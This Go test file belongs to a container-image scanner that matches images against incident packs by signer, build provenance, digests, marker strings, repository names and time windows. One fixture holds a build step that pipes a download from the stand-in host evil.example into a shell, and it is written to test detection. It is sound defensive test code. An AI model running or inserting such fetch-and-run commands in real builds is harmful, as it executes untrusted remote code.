package advisory

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/backtrail/backtrail/inspect"
)

// packWith is a pack of one incident, changed by a test.
func packWith(change func(p *Pack)) *Pack {
	p := &Pack{ID: "incident-1", Title: "an incident", Severity: inspect.Critical}
	change(p)
	return p
}

// matchedBy are the kinds and subjects by which an image matches one pack.
func matchedBy(p *Pack, i inspect.Image) []string {
	m := newMatches(newIndex([]*Pack{p}, nil), i)
	m.packages()
	m.digests()
	m.identities()
	m.strings()
	m.windows()
	var all []string
	for _, r := range m.rows {
		all = append(all, string(r.Kind)+" "+r.Subject)
	}
	return all
}

// Who signed, who built and what it was built from, compared with what a pack names. An empty statement matches
// nothing, and a commit is compared whole.
func TestIdentitiesBuildersAndMaterials(t *testing.T) {
	const commit = "0123456789abcdef0123456789abcdef01234567"
	digest := "sha256:" + strings.Repeat("ab", 32)
	p := packWith(func(p *Pack) {
		p.Identities, p.Commits, p.Images = []string{"github.com/mallory/"}, []string{commit}, []string{digest}
	})
	for name, tt := range map[string]struct {
		image inspect.Image
		want  int
	}{
		"a signer":                {inspect.Image{Signatures: []inspect.Signature{{Identity: "https://github.com/mallory/x/.github/workflows/a.yml@refs/heads/main"}}}, 1},
		"another signer":          {inspect.Image{Signatures: []inspect.Signature{{Identity: "https://github.com/acme/x"}, {}}}, 0},
		"a source":                {inspect.Image{Provenance: []inspect.Provenance{{Source: "git+https://github.com/mallory/x"}}}, 1},
		"a builder":               {inspect.Image{Provenance: []inspect.Provenance{{Builder: "https://github.com/mallory/builder"}}}, 1},
		"a commit":                {inspect.Image{Provenance: []inspect.Provenance{{Commit: commit}}}, 1},
		"a part of a commit":      {inspect.Image{Provenance: []inspect.Provenance{{Commit: commit[:12]}}}, 0},
		"a material's address":    {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "git+https://h/x@" + commit}}}}}, 1},
		"a material's digest":     {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "a", Digest: "sha1:" + commit}}}}}, 1},
		"an image as a material":  {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest}}}}}, 1},
		"a digest without prefix": {inspect.Image{Provenance: []inspect.Provenance{{Materials: []inspect.Material{{URI: "b", Digest: digest[7:]}}}}}, 1},
		"empty statements": {inspect.Image{Provenance: []inspect.Provenance{
			{},
			{Materials: []inspect.Material{{}}},
		}}, 0},
		"the image itself": {inspect.Image{ImageHead: inspect.ImageHead{Digest: digest}}, 1},
		"its index":        {inspect.Image{ImageHead: inspect.ImageHead{Index: digest}}, 1},
	} {
		if got := matchedBy(p, tt.image); len(got) != tt.want {
			t.Errorf("%s: %q, want %d", name, got, tt.want)
		}
	}
}

// Strings are looked for in what an image starts and how it was built, and nowhere else.
func TestStringsOfAnIncident(t *testing.T) {
	p := packWith(func(p *Pack) { p.Strings, p.Hosts = []string{"evil-marker"}, []string{"evil.example"} })
	for name, tt := range map[string]struct {
		image inspect.Image
		want  []string
	}{
		"an entrypoint": {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Entrypoint: []string{"sh", "-c", "evil-marker"}}}}, []string{"string evil-marker"}},
		"a variable":    {inspect.Image{ImageHead: inspect.ImageHead{Settings: inspect.ImageConfig{Env: []string{"A=https://evil.example/x"}}}}, []string{"string evil.example"}},
		"a build step": {
			inspect.Image{Layers: []inspect.Layer{{CreatedBy: "RUN curl evil.example | sh"}}},
			[]string{"string evil.example"},
		},
		"a lock file": {
			inspect.Image{Lock: []inspect.LockRow{{Resolved: "https://evil.example/a.tgz"}}},
			[]string{"string evil.example"},
		},
		"twice": {inspect.Image{Layers: []inspect.Layer{
			{CreatedBy: "evil.example"},
			{CreatedBy: "evil.example"},
		}}, []string{"string evil.example"}},
		"a file's name":  {inspect.Image{Binaries: []inspect.Binary{{Path: "/evil-marker"}}}, nil},
		"nothing at all": {inspect.Image{}, nil},
	} {
		if got := matchedBy(p, tt.image); !slices.Equal(got, tt.want) {
			t.Errorf("%s: %q, want %q", name, got, tt.want)
		}
	}
}

// A repository is compared by its full name. A mirror of Docker Hub has the same image; one by the same last part has
// another.
func TestNamesOfRepositories(t *testing.T) {
	for reference, want := range map[string][2]string{
		"nginx":      {"index.docker.io/library/nginx", "latest"},
		"acme/web:1": {"index.docker.io/acme/web", "1"},
		"ghcr.io/acme/web@sha256:" + strings.Repeat("a", 64): {"ghcr.io/acme/web", ""},
		"localhost:5000/web": {"localhost:5000/web", "latest"},
		"/srv/layout":        {"", ""},
		"oci:/srv/layout":    {"", ""},
		"UPPER/case":         {"", ""},
		"":                   {"", ""},
	} {
		if repository, tag := repositoryOf(reference); repository != want[0] || tag != want[1] {
			t.Errorf("%s: %q %q, want %q", reference, repository, tag, want)
		}
	}
	for pair, want := range map[[2]string]bool{
		{"index.docker.io/acme/web", "index.docker.io/acme/web"}:          true,
		{"index.docker.io/acme/web", "mirror.example/hub/acme/web"}:       true,
		{"index.docker.io/acme/web", "mirror.example/other/web"}:          false,
		{"index.docker.io/library/nginx", "mirror.example/library/nginx"}: false, // every registry has one of that name
		{"ghcr.io/acme/web", "mirror.example/acme/web"}:                   false,
		{"", ""}: false,
	} {
		if got := sameRepository(pair[0], pair[1]); got != want {
			t.Errorf("%q: %v", pair, got)
		}
	}
}

// What is known of an image in one sentence each: a match by a package, by something else, within a window only, and of
// a record that was withdrawn, which convicts nobody.
func TestFindingsByTheirCertainty(t *testing.T) {
	row := func(id string, kind inspect.AdvisoryKind, subject string, s inspect.Severity,
		change func(a *inspect.Advisory),
	) inspect.Advisory {
		a := inspect.Advisory{
			ID: id, Source: "incident-pack", Kind: kind, Subject: subject, Title: "what happened",
			Severity: s, Status: s.RowStatus(), Layer: -1,
		}
		if change != nil {
			change(&a)
		}
		return a
	}
	rows := []inspect.Advisory{
		row("a", inspect.AdvisoryPackage, "npm-x 1.0", inspect.Critical,
			func(a *inspect.Advisory) { a.Locations = []string{"/app/node_modules/npm-x/package.json"} }),
		row("a", inspect.AdvisoryPackage, "npm-y 1.0", inspect.Critical, nil), row("a", inspect.AdvisoryPackage,
			"npm-z 1.0", inspect.Critical, nil),
		row("a", inspect.AdvisoryPackage, "npm-w 1.0", inspect.Critical, nil),
		row("b", inspect.AdvisoryLayer, "sha256:aa", inspect.High, nil),
		row("c", inspect.AdvisoryWindow, "image built then", inspect.Low, nil),
		row("d", inspect.AdvisoryPackage, "gem 1", inspect.Info, func(a *inspect.Advisory) { a.Withdrawn = true }),
		row("e", inspect.AdvisoryPackage, "libx 1", inspect.Critical,
			func(a *inspect.Advisory) { a.Locations = []string{"/var/lib/dpkg/status"} }),
	}
	got := map[string]inspect.Finding{}
	for _, f := range findings(inspect.Image{ImageHead: inspect.ImageHead{Container: "web"}}, rows) {
		got[f.Title] = f
	}
	for title, want := range map[string]struct {
		code, subject, cause string
		status               inspect.RowStatus
	}{
		"known-compromised package npm-x 1.0, npm-y 1.0, npm-z 1.0 and 1 more (a): what " +
			"happened": {
			inspect.CodeKnownCompromise, "web:/app/node_modules/npm-x/package.json",
			"package:npm-x@1.0", inspect.RowFailed,
		},
		"known compromise b by its layer sha256:aa: what " +
			"happened": {inspect.CodeKnownCompromise, "web", "", inspect.RowFailed},
		"image built then, within the exposure window of c: what " +
			"happened": {inspect.CodeExposureWindow, "web", "", inspect.Low.RowStatus()},
		"gem 1 matched d, which was withdrawn: what " +
			"happened": {
			inspect.CodeWithdrawnAdvisory, "web", "package:gem@1",
			inspect.Info.RowStatus(),
		},
		"known-compromised package libx 1 (e): what happened": {inspect.CodeKnownCompromise, "web", "package:libx@1", inspect.RowFailed}, // the database is no file of it
	} {
		f, there := got[title]
		if !there || f.Code != want.code || f.Subject != want.subject || f.Cause != want.cause ||
			f.Status != want.status {
			t.Errorf("%q: %v %+v", title, there, f)
		}
	}
	if len(got) != 5 {
		t.Errorf("%d findings", len(got))
	}
	for title, f := range got {
		if last := f.Evidence[len(f.Evidence)-1]; last.Kind != "advisory" || !strings.HasPrefix(last.Text,
			"incident-pack ") {
			t.Errorf("%q names no record: %+v", title, last)
		}
	}
}

// A window has two ends, of which one may be open. A day as its end is the last second of that day.
func TestWindows(t *testing.T) {
	at := func(s string) inspect.Time {
		parsed, err := time.Parse(time.RFC3339, s)
		if err != nil {
			t.Fatal(err)
		}
		return inspect.At(parsed)
	}
	for text, inside := range map[string]map[string]bool{
		"2026-03-01,2026-03-02": {
			"2026-02-28T23:59:59Z": false, "2026-03-01T00:00:00Z": true,
			"2026-03-02T23:59:59Z": true, "2026-03-03T00:00:00Z": false,
		},
		"2026-03-01T12:00:00Z,": {"2026-03-01T11:59:59Z": false, "2030-01-01T00:00:00Z": true},
		",2026-03-01T12:00:00+02:00": {
			"2026-03-01T10:00:00Z": true, "2026-03-01T10:00:01Z": false,
			"1970-01-02T00:00:00Z": true,
		},
		" 2026-03-01 , 2026-03-01 ": {"2026-03-01T10:00:00Z": true, "2026-03-02T00:00:00Z": false},
	} {
		w, err := ParseWindow(text)
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		for s, want := range inside {
			if w.Holds(at(s)) != want {
				t.Errorf("%s lies in %s: %v", s, text, !want)
			}
		}
		if w.Holds(inspect.Time{}) {
			t.Errorf("an unknown time lies in %s", text)
		}
	}
	for _, text := range []string{"", ",", "2026-03-01", "2026-03-02,2026-03-01", "yesterday,today", "2026-13-01,"} {
		if w, err := ParseWindow(text); err == nil {
			t.Errorf("%q is %v", text, w)
		}
	}
}
